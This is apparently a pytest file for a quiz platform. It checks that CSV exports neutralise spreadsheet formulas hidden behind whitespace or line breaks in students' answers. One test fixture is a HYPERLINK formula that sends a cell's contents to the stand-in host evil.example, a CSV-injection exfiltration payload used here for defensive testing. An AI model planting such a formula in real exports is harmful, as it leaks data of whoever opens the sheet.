"""The CSV formula guard sees through leading whitespace and line breaks: spreadsheets
may skip them, so "\\r\\n=HYPERLINK(...)" typed by a student is still a formula."""

from __future__ import annotations

import pytest

from camp.bank.services import QuestionDraft
from camp.db import utcnow
from camp.extensions import db
from camp.quizzes import attempts, services
from camp.quizzes.models import Attempt
from camp.reports.export import neutralise, to_csv
from tests.reports.conftest import add_students
from tests.reports.test_export import rows_of

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HIDDEN = ["\r\n", "\n", "\r", " ", "  \t", "\n \r\n\t "]


@pytest.mark.parametrize("before", HIDDEN)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_formula_after_whitespace_or_line_breaks_is_neutralised(before, start):
    text = f"{before}{start}1+2"
    assert neutralise(text) == "'" + text


def test_text_and_numbers_that_are_not_formulas_are_kept():
    for text in ("Zoë", " Zoë", "\nline two", "a=b", "3-1"):
        assert neutralise(text) == text
    assert neutralise(-3) == -3 and neutralise(-0.25) == -0.25
    assert rows_of(to_csv(["weight", "fraction"], [[-3, -0.25]])) == [
        ["weight", "fraction"],
        ["-3", "-0.25"],
    ]


def test_a_students_essay_starting_with_a_line_break_exports_as_text(client, login, make, course):
    """An essay answer is kept as typed (line breaks stored as LF) and goes to the
    organiser's CSV of the student's attempts."""
    (student,) = add_students(make, course, ["Ada"])
    essay = make.question(QuestionDraft(type="essay", text="Explain.", spec={}))
    quiz = make.quiz([essay], title="Essay quiz")
    attempt = db.session.get(Attempt, services.start_attempt(student, quiz, utcnow()))
    services.save_responses(attempt, {1: {"text": "\r\n" + LINK}}, utcnow())
    attempts.submit_attempt(attempt, utcnow())
    db.session.commit()

    login(course.organiser)
    url = f"/organiser/cohorts/{course.cohort.id}/students/{student.id}?format=csv"
    header, *body = rows_of(client.get(url).data)
    (row,) = [row for row in body if row[header.index("quiz")] == "Essay quiz"]
    assert row[header.index("answer")] == "'\n" + LINK
